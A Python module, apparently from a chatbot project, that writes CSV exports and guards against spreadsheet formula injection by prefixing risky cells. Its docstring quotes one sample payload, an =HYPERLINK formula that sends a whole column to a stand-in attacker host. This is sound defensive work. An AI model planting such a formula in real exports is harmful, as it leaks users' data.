"""The one CSV writer of the project: every cell is safe to open in a spreadsheet.

A CSV export is meant to be opened in LibreOffice or Excel, which run a cell starting with ``=``,
``+``, ``-`` or ``@`` (or a tab or carriage return before one of them) as a formula: a message
such as ``=HYPERLINK("https://evil.example/?x="&A:A;"cliquez")`` typed to the bot would become a
link that sends the whole column away (« CSV injection », OWASP). Such a cell is written with a
leading ``'``, which the spreadsheet shows as text and does not display.

A number written with its sign (« +33 2 48 00 00 00 », « -3 ») holds no formula and is kept as is,
so that the directory's international phone numbers survive an export and re-import.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping, Sequence
from pathlib import Path
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
SIGNED_NUMBER_CHARACTERS = set("0123456789 .,")


def neutralised(value: Any) -> Any:
    """``value`` with a leading ``'`` when a spreadsheet would read it as a formula; others as is."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if value[0] in "+-" and len(value) > 1 and set(value[1:]) <= SIGNED_NUMBER_CHARACTERS:
        return value
    return "'" + value


def write_rows(
    path: Path, header: Sequence[str], rows: Iterable[Sequence[Any]], *, delimiter: str = ",", bom: bool = False
) -> None:
    """Write ``header`` then ``rows``, every cell neutralised; ``bom`` for a French spreadsheet.
    A new file is readable by its owner only (mode 600)."""
    path.touch(mode=0o600, exist_ok=True)  # an export may hold people's messages: its owner only
    with path.open("w", encoding="utf-8-sig" if bom else "utf-8", newline="") as fh:
        writer = csv.writer(fh, delimiter=delimiter, lineterminator="\r\n" if bom else "\n")
        writer.writerow([neutralised(cell) for cell in header])
        writer.writerows([neutralised(cell) for cell in row] for row in rows)


def write_records(path: Path, fields: Sequence[str], records: Iterable[Mapping[str, Any]]) -> None:
    """Write one line per mapping, in the order of ``fields``, unknown values as empty cells."""
    write_rows(path, fields, ([record.get(field) or "" for field in fields] for record in records))
